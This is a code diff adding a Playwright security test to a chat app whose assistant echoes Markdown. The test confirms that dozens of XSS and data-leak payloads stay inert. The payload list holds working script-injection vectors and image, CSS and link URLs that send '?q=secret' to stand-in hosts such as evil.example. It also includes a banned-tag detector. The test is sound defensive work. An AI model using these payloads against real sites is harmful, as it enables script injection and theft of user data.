@@ -5,10 +5,12 @@ from __future__ import annotations
 
 import json
 import os
+import threading
 import time
 from collections.abc import Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 
 import pytest
@@ -482,3 +484,274 @@ def test_the_offline_assistant_answers_from_the_docs_with_a_source_link(
     expect(source.locator("article.document")).to_contain_text("ollama pull llama3.2")
     source.screenshot(path=str(OUTPUT / "browser-knowledge-source.png"))
     assert tab.errors == []
+
+
+# Hostile payloads ------------------------------------------------------------------------
+
+PWN = "pwned=1;alert(1)"  # what each script payload would do: set a global, open a dialog
+LEAK = "http://evil.example"  # a foreign host; the browser must never ask it for anything
+
+
+@dataclass(frozen=True)
+class Payload:
+    """A message ``text`` sent by a user and echoed by the assistant, and ``shown``: what the
+    assistant's rendered Markdown must still show of it (the user's copy shows it all)."""
+
+    name: str
+    text: str
+    shown: str
+
+
+def hostile_payloads(evil: str) -> list[Payload]:
+    """Payloads that run script, leave the page or fetch from another host (``evil``, a
+    loopback server of the test's, or ``evil.example``) if rendered as HTML."""
+
+    def raw(name: str, text: str) -> Payload:  # raw HTML: the assistant shows it as text
+        return Payload(name, text, text)
+
+    return [
+        raw("script tag", f"<script>{PWN}</script>"),
+        raw("img onerror", f"<img src=x onerror={PWN}>"),
+        raw("svg onload", f"<svg onload={PWN}>"),
+        raw("svg image", f'<svg><image href="{evil}/svg-image"/></svg>'),
+        raw("event handler", f'<div onmouseover="{PWN}">hover me</div>'),
+        raw("details ontoggle", f"<details open ontoggle={PWN}>"),
+        raw("autofocus onfocus", f"<input autofocus onfocus={PWN}>"),
+        raw("body onload", f"<body onload={PWN}>"),
+        raw("attribute breakout", f'"><script>{PWN}</script>'),
+        raw("mutation XSS", f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>"),
+        raw("noscript breakout", f'<noscript><p title="</noscript><img src=x onerror={PWN}>">'),
+        raw("html javascript link", f'<a href="javascript:{PWN}">click</a>'),
+        raw("iframe", f'<iframe src="{evil}/iframe"></iframe>'),
+        raw("iframe srcdoc", f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>'),
+        raw("meta refresh", f'<meta http-equiv="refresh" content="0;url={evil}/refresh">'),
+        raw("base href", f'<base href="{evil}/">'),
+        raw("link stylesheet", f'<link rel="stylesheet" href="{evil}/link.css">'),
+        raw("style import", f'<style>@import url("{evil}/import.css");</style>'),
+        raw("css url()", f'<div style="background:url({evil}/css-url?q=secret)">x</div>'),
+        raw(
+            "object and embed", f'<object data="{evil}/object"></object><embed src="{evil}/embed">'
+        ),
+        raw("raw img", f'<img src="{evil}/raw-image?q=secret">'),
+        raw("raw img, foreign host", f'<img src="{LEAK}/raw-image?q=secret">'),
+        raw("picture srcset", f'<picture><source srcset="{evil}/srcset"><img alt=x></picture>'),
+        raw("video poster", f'<video poster="{evil}/poster" src="{evil}/video" autoplay></video>'),
+        raw("form", f'<form action="{evil}/form"><button formaction="javascript:{PWN}">go'),
+        raw("md javascript link", f"[click me](javascript:{PWN})"),
+        raw("md javascript link, mixed case", f"[click me](JaVaScRiPt:{PWN})"),
+        raw("md javascript link, angle brackets", f"[click me](<javascript:{PWN}>)"),
+        Payload(
+            "md javascript link, entity",
+            f"[click me](javascript&#58;{PWN})",
+            f"[click me](javascript:{PWN})",
+        ),
+        raw(
+            "md data link", "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"
+        ),
+        raw("javascript autolink", f"<javascript:{PWN}>"),
+        raw(
+            "md svg data image",
+            "![vector](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAw"
+            "MC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)",
+        ),
+        Payload(
+            "md image, foreign host", f"![secret chart]({LEAK}/leak.png?q=secret)", "secret chart"
+        ),
+        Payload("md image", f"![secret chart]({evil}/md-image?q=secret)", "secret chart"),
+        Payload(
+            "md reference image",
+            f"![secret chart][chart]\n\n[chart]: {evil}/ref-image?q=secret",
+            "secret chart",
+        ),
+        Payload(
+            "md shortcut reference image",
+            f"![chart]\n\n[chart]: {LEAK}/shortcut.png?q=secret",
+            "chart",
+        ),
+        Payload(
+            "md image without alt",
+            f"![]({evil}/no-alt.png?q=secret)",
+            f"{evil}/no-alt.png?q=secret",
+        ),
+        Payload(
+            "md image in a link",
+            f"[![secret chart]({evil}/nested.png?q=secret)]({evil}/nested)",
+            "secret chart",
+        ),
+        Payload(
+            "md data image",
+            "![pixel](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4"
+            "2mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)",
+            "pixel",
+        ),
+        Payload("autolink", f"<{evil}/autolink?q=secret>", f"{evil}/autolink?q=secret"),
+        Payload(
+            "md link, title breakout", f'[titled]({evil}/t "\\" onmouseover=\\"{PWN}")', "titled"
+        ),
+        Payload("md link, href breakout", f'[quoted]({evil}/"onmouseover="{PWN})', "quoted"),
+        Payload("md protocol-relative link", "[docs](//evil.example/?q=secret)", "docs"),
+        Payload("code fence", f"```html\n<script>{PWN}</script>\n```", f"<script>{PWN}</script>"),
+        Payload(
+            "table cell",
+            f"| a |\n| --- |\n| <img src=x onerror={PWN}> |",
+            f"<img src=x onerror={PWN}>",
+        ),
+        Payload("heading", f"# <script>{PWN}</script>", f"<script>{PWN}</script>"),
+    ]
+
+
+class EvilServer:
+    """An HTTP server on another loopback port, standing for a foreign host: it notes every
+    request that reaches it (none may)."""
+
+    def __init__(self) -> None:
+        hits = self.hits = []
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                hits.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "text/plain")
+                self.send_header("Content-Length", "2")
+                self.end_headers()
+                self.wfile.write(b"ok")
+
+            do_POST = do_HEAD = do_GET
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
+        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
+        self.thread.start()
+
+    def stop(self) -> None:
+        self.httpd.shutdown()
+        self.httpd.server_close()
+
+
+@pytest.fixture
+def evil_server() -> Iterator[EvilServer]:
+    server = EvilServer()
+    yield server
+    server.stop()
+
+
+def record_foreign_requests(tab: Tab, server: Server, evil: EvilServer) -> list[str]:
+    """Every request of ``tab``'s browser context for anything but ``server``: requests for
+    the evil server are let through (so that it sees them too), others are aborted."""
+    foreign: list[str] = []
+    local = (f"{server.http_url}/", "data:", "blob:", "about:")
+
+    def guard(route: Any) -> None:
+        url = route.request.url
+        if url.startswith(local):
+            route.continue_()
+            return
+        foreign.append(f"route {url}")
+        if url.startswith(evil.url):
+            route.continue_()
+        else:
+            route.abort()
+
+    context = tab.page.context
+    context.route("**/*", guard)
+    context.on(
+        "request",
+        lambda request: None if request.url.startswith(local) else foreign.append(request.url),
+    )
+    context.on("page", lambda page: foreign.append(f"new page {page.url}"))
+    return foreign
+
+
+UNSAFE_DOM = """list => {
+    const found = [];
+    const banned = "script,img,svg,iframe,frame,object,embed,meta,link,style,base,form,input,"
+        + "button,video,audio,source,picture,math,details,body,noscript,image,textarea,select";
+    for (const el of list.querySelectorAll(banned)) found.push(`<${el.localName}>`);
+    for (const el of list.querySelectorAll("*")) {
+        for (const attr of el.attributes) {
+            const unsafe = /^on|^(src|srcset|srcdoc|style|action|formaction|poster|background)$/i;
+            if (unsafe.test(attr.name)) found.push(`<${el.localName} ${attr.name}>`);
+        }
+    }
+    for (const a of list.querySelectorAll("a[href]")) {
+        if (!/^(https?:|mailto:)/.test(a.href)) found.push(`<a href="${a.getAttribute("href")}">`);
+        if (!/noopener/.test(a.rel)) found.push(`<a rel="${a.rel}">`);
+    }
+    return found;
+}"""
+
+
+def assert_payloads_harmless(tab: Tab, payloads: list[Payload], url: str) -> None:
+    """Every payload is shown as text, in the user's message and in the assistant's echo; no
+    markup it carried is in the page, nothing of it ran, and the page did not move."""
+    from playwright.sync_api import expect
+
+    page = tab.page
+    expect(page.locator(".msg-assistant[data-status=complete]")).to_have_count(len(payloads))
+    users = [text_of(body) for body in page.locator(".msg-user .msg-body").all()]
+    assert users == [p.text for p in payloads]
+    assistants = [text_of(body) for body in page.locator(".msg-assistant .msg-body").all()]
+    lost = [p.name for p, shown in zip(payloads, assistants, strict=True) if p.shown not in shown]
+    assert lost == [], f"the assistant's rendering lost these payloads' text: {lost}"
+    assert page.locator("#messages").evaluate(UNSAFE_DOM) == []
+    for body in page.locator("#messages .msg-body").all():
+        body.hover()  # mouseover handlers, had any survived
+    assert page.evaluate("() => typeof window.pwned") == "undefined"
+    assert tab.dialogs == []
+    assert tab.errors == []
+    assert page.url == url
+
+
+ECHO = {
+    "BACKEND": "parley.backends.scripted.ScriptedBackend",
+    "OPTIONS": {"reply": "{question}"},
+}
+
+
+def test_hostile_payloads_stay_text_run_nothing_and_reach_no_other_host(
+    servers, alice, bob, shared_room, new_tab, evil_server
+):
+    """Alice sends each payload to the shared room and the assistant says it back (rendered
+    as Markdown): on her page, on Bob's (live) and on hers reloaded (history), no script
+    runs, no request leaves for another host, and the text is all still there."""
+    from playwright.sync_api import expect
+
+    server = servers(env=backend_env(ECHO), name="browser-payloads")
+    payloads = hostile_payloads(evil_server.url)
+    tab, watcher = new_tab(), new_tab()
+    foreign = [record_foreign_requests(t, server, evil_server) for t in (tab, watcher)]
+
+    # The detectors work: a page of the same context fetching from the evil server is seen
+    # by the route, by the request log and by the evil server itself.
+    probe = tab.page.context.new_page()
+    probe.goto(f"{evil_server.url}/probe")
+    seen = set(foreign[0])
+    assert {f"route {evil_server.url}/probe", f"{evil_server.url}/probe"} <= seen
+    assert any(entry.startswith("new page") for entry in seen)
+    assert evil_server.hits == ["/probe"]
+    probe.close()
+    foreign[0].clear()
+    evil_server.hits.clear()
+
+    log_in(tab, server, "alice")
+    open_room(tab, shared_room)
+    log_in(watcher, server, "bob")
+    open_room(watcher, shared_room)
+    expect(tab.page.get_by_label("Ask the assistant")).to_be_checked()
+    done = tab.page.locator(".msg-assistant[data-status=complete]")
+    for count, payload in enumerate(payloads, start=1):
+        send(tab, payload.text)
+        expect(done, f"the answer to {payload.name!r}").to_have_count(count)
+    tab.shot("payloads")
+
+    room_url = tab.page.url
+    assert_payloads_harmless(tab, payloads, room_url)
+    assert_payloads_harmless(watcher, payloads, room_url)
+    tab.page.reload()
+    expect(tab.page.locator("#connection-state")).to_have_attribute("data-state", "connected")
+    assert_payloads_harmless(tab, payloads, room_url)
+    assert foreign == [[], []]
+    assert evil_server.hits == []
